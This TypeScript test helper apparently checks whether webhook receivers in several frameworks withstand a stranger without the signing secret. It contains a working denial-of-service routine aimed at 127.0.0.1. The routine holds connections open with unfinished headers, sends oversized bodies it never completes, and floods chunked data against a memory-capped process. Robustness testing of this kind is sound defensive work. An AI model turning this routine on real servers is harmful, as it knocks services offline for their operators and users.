// What a stranger, who has no secret, sends to a receiver in every framework.
import { connect, type Socket } from "node:net";
import { setTimeout as pause } from "node:timers/promises";

/** A program under attack, with so much memory that a list of the chunks of its bodies ends it. */
export const underAttack = (command: string): string =>
  `NODE_OPTIONS=--max-old-space-size=256 exec ${command}`;

const bodiesInChunks = 4;
const bodiesWithoutEnd = 150;
const headersWithoutEnd = 50;
const chunksMax = 500_000;
const manyChunks = "1\r\nx\r\n".repeat(5_000);

const head = (lines: readonly string[]) =>
  [
    ...["POST /webhooks HTTP/1.1", "Host: 127.0.0.1", "content-type: application/json", "webhook-id: a"],
    ...[`webhook-timestamp: ${Math.floor(Date.now() / 1_000)}`, "webhook-signature: v1,AAAA", ...lines],
    ...["", ""],
  ].join("\r\n");

/** Resolves while the connections are open; the result closes those that the receiver has not closed. */
export async function attack(origin: string): Promise<() => void> {
  const port = Number(new URL(origin).port);
  const sockets: Socket[] = [];
  const open = () => {
    const socket = connect(port, "127.0.0.1");
    socket.on("error", () => {}).resume();
    sockets.push(socket);
    return socket;
  };
  for (let count = 0; count < headersWithoutEnd; count++)
    open().write("POST /webhooks HTTP/1.1\r\nHost: x\r\n");
  for (let count = 0; count < bodiesWithoutEnd; count++)
    open().write(Buffer.concat([Buffer.from(head(["content-length: 1000000"])), Buffer.alloc(999_999, "x")]));
  await Promise.all(
    Array.from({ length: bodiesInChunks }, async () => {
      const socket = open();
      socket.write(head(["transfer-encoding: chunked"]));
      for (let sent = 0; sent < chunksMax && !socket.destroyed; sent += 5_000)
        if (!socket.write(manyChunks)) await Promise.race([drained(socket), pause(5_000)]);
    }),
  );
  return () => {
    for (const socket of sockets) socket.destroy();
  };
}

const drained = (socket: Socket) =>
  new Promise<void>((resolve) => void socket.once("drain", resolve).once("close", () => resolve()));
